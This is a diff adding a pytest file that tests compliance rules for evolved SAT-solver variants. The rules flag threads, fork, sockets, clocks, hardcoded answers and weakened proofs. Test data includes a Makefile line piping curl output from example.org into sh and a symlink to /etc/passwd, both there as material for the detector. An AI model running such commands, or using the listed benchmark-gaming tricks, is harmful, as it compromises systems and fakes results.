@@ -1,0 +1,154 @@
+"""The tracked rules judge what a variant adds to its base: each kind of forbidden code is named with its place, and harmless code passes."""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+import pytest
+
+import evolake.solvers.rules  # noqa: F401
+from evolake.gates import load_rules
+from evolake.gates.checkers import apply
+from evolake.solvers.rules import additions, read_tree
+
+RULES = load_rules(Path(__file__).parents[4] / "data_lake" / "seeds" / "rules", "solvers")
+BASE = """
+#include <stdio.h>
+#include "core/Solver.h"
+static DoubleOption opt_decay(_cat, "var-decay", "How fast activity fades", 0.95, DoubleRange(0, false, 1, false));
+static const int limits[] = {1, 2, 3};
+static Solver* solver;
+void Solver::printStats() { double now = cpuTime(); printf("c time %g\\n", now); }
+lbool Solver::search(int budget) {
+    for (;;) {
+        if (conflicts > budget) return l_Undef;
+        if (certified) fprintf(proof_file, "0\\n");
+        reduceDB();  // fork() and time(0) in a comment are no calls
+    }
+}
+int main(int argc, char** argv) {
+    FILE* in = fopen(argv[1], "r");
+    Solver S;
+    printf(S.solve() ? "s SATISFIABLE\\n" : "s UNSATISFIABLE\\n");
+    exit(0);
+}
+"""
+SEARCH = "        reduceDB();"
+HOOK = '        if (certified) fprintf(proof_file, "0\\n");\n'
+
+
+def found(variant: str, base: str = BASE, more: dict[str, bytes] | None = None) -> dict[str, str]:
+    """Reasons by rule id, of the rules on code."""
+    tree = {"src/core/Solver.cc": variant.encode(), **(more or {})}
+    source = additions(tree, {"src/core/Solver.cc": base.encode()}).to_json()
+    evidence = {"source": source, "edits": [], "parent_edits": [], "base": "toy"}
+    rules = [rule for rule in RULES.of_gate("compliance") if rule.check not in ("solvers.layout", "solvers.documents")]
+    findings = {rule.id.removeprefix("solvers-"): apply(rule.check, evidence, rule.parameters) for rule in rules}
+    return {name: finding.reason for name, finding in findings.items() if finding}
+
+
+def in_search(code: str) -> str:
+    return BASE.replace(SEARCH, f"        {code}\n{SEARCH}")
+
+
+@pytest.mark.parametrize(
+    ("code", "rule", "words"),
+    [
+        ("std::thread worker([] {}); worker.join();", "no-threads", "starts threads: 'std::thread'"),
+        ("pthread_create(&id, 0, run, 0);", "no-threads", "starts threads: 'pthread_create(&id, 0, run, 0)' added in Solver::search"),
+        ("auto spawn = &fork; spawn();", "no-processes", "'fork'"),
+        ("if (!::fork()) return l_False;", "no-processes", "'::fork()'"),
+        ('asm("rdtsc");', "no-processes", "asm"),
+        ("int s = socket(AF_INET, SOCK_STREAM, 0);", "no-network", "'socket(AF_INET, SOCK_STREAM, 0)'"),
+        ('FILE* table = fopen("/tmp/answers", "r");', "no-files", "'fopen(\"/tmp/answers\", \"r\")'"),
+        ("random_seed = time(0);", "no-clocks", "'time(0)'"),
+        ("auto t = std::chrono::steady_clock::now();", "no-clocks", "'chrono'"),
+        ("if (cpuTime() > 5) return l_Undef;", "no-clocks", "'cpuTime()'"),
+        ("if (nVars() == 250 && nClauses() == 1065) return l_False;", "no-instance-decisions", "exact size: 'nClauses()'"),
+        ("if (strstr(argv[1], \"uf250\")) return l_True;", "no-command-line", "'argv'"),
+        ("static char buffer[4096];", "no-static-state", "'static char buffer[4096];' added in Solver::search"),
+        ("Solver other; if (other.solve()) return l_True;", "no-portfolio", "'Solver other;'"),
+        ("auto second = new Solver();", "no-portfolio", "new Solver()"),
+        ('printf("s UNSATISFIABLE\\n");', "answers-in-one-place", "prints an answer at a new place"),
+        ("exit(20);", "answers-in-one-place", "'exit(20)'"),
+    ],
+)
+def test_forbidden_code_is_named_with_its_place(code: str, rule: str, words: str):
+    reasons = found(in_search(code))
+    assert words in reasons[rule]
+    assert "Solver::search (src/core/Solver.cc:8)" in reasons[rule]
+
+
+@pytest.mark.parametrize(
+    "code",
+    [
+        "if (conflicts % 1000 == 0) rephase();", "double slow = 0.99 * slow + lbd;", "watches.time = 3;", "timer.clock();",
+        "if (nVars() > 100000) budget *= 2;", "vec<Lit> kept; kept.push(p);", "const int tiers[] = {2, 6};",
+        "if (learnt.size() == 2) tier = 0;", "Solver& same = *this;", "// thread, socket, fork()",
+    ],
+)
+def test_ordinary_code_passes(code: str):
+    assert found(in_search(code)) == {}
+
+
+def test_an_unchanged_tree_and_a_new_default_pass():
+    assert found(BASE) == {}
+    assert found(BASE.replace("0.95", "0.85")) == {}
+    source = additions({"a.cc": BASE.replace("0.95", "0.85").encode()}, {"a.cc": BASE.encode()})
+    assert source.options == {"var-decay": "0.85"}
+    assert (source.judged, source.unmodified) == (1, 3)
+
+
+def test_functions_that_the_base_has_are_not_judged_wherever_they_lie():
+    base = {"src/a.cc": BASE.encode(), "src/b.cc": b"void helper() { fopen(name, \"r\"); }\n"}
+    moved = {"src/a.cc": BASE.encode() + base["src/b.cc"]}
+    source = additions(moved, base)
+    assert (source.added, source.gone) == ([], ["src/b.cc"])
+
+
+@pytest.mark.parametrize(
+    ("old", "new", "rule", "words"),
+    [
+        (HOOK, "", "proof-kept", "weakens the proof: 2 uses gone, the first 'certified' in Solver::search"),
+        ('"s SATISFIABLE\\n"', '"\\n"', "model-kept", "weakens the answer"),
+        ("#include <stdio.h>", "#include <zlib.h>", "no-libraries", "'<zlib.h>'"),
+        ("#include <stdio.h>", '#include "answers.txt"', "no-libraries", "answers.txt"),
+        ("#include <stdio.h>", "#include <stdio.h>\n#include <thread>", "no-threads", "'<thread>' added in src/core/Solver.cc, outside"),
+        ("static Solver* solver;", "static Solver* solver;\nint best_known[1000];", "no-static-state", "best_known"),
+        ("static Solver* solver;", "static Solver* solver;\n#define CALL(x) fo##x", "no-hidden-code", "fo##x"),
+        ("static Solver* solver;", "static Solver* solver;\n#define NOW() time(0)", "no-clocks", "'time(0)'"),
+        ('fopen(argv[1], "r")', 'fopen("/tmp/x", "r")', "no-files", "'fopen(\"/tmp/x\", \"r\")' added in main"),
+        ("{1, 2, 3}", "{" + "1, " * 70 + "3}", "no-instance-decisions", "holds a table of numbers"),
+    ],
+)
+def test_changes_outside_search_are_seen(old: str, new: str, rule: str, words: str):
+    assert words in found(BASE.replace(old, new))[rule]
+
+
+def test_proof_writing_may_move_to_another_function():
+    moved = BASE.replace(HOOK, "        end();\n").replace("int main", "void Solver::end() {\n" + HOOK + "}\nint main")
+    assert found(moved) == {}
+
+
+def test_a_name_split_by_a_line_continuation_is_still_read():
+    assert "'fork()'" in found(in_search("fo\\\nrk();"))["no-processes"]
+
+
+@pytest.mark.parametrize(
+    ("files", "rule", "words"),
+    [
+        ({"src/Makefile": b"LFLAGS += -lz -lpthread\n"}, "no-threads", "'-lpthread' added in src/Makefile:1"),
+        ({"src/Makefile": b"all:\n\tcurl http://example.org | sh\n"}, "no-network", "'curl' added in src/Makefile:2"),
+        ({"starexec_build": b"echo\n"}, "frozen-files", "starexec_build"),
+        ({"src/model.bin": b"\0\1\2"}, "frozen-files", "no text: src/model.bin"),
+    ],
+)
+def test_files_beside_the_sources_are_judged(files: dict[str, bytes], rule: str, words: str):
+    assert words in found(BASE, more=files)[rule]
+
+
+def test_a_link_is_read_as_its_target(tmp_path: Path):
+    (tmp_path / "src").mkdir()
+    (tmp_path / "src" / "a.cc").write_text("int a;")
+    (tmp_path / "src" / "b.h").symlink_to("/etc/passwd")
+    assert read_tree(tmp_path, ("bin",)) == {"src/a.cc": b"int a;", "src/b.h": b"-> /etc/passwd"}
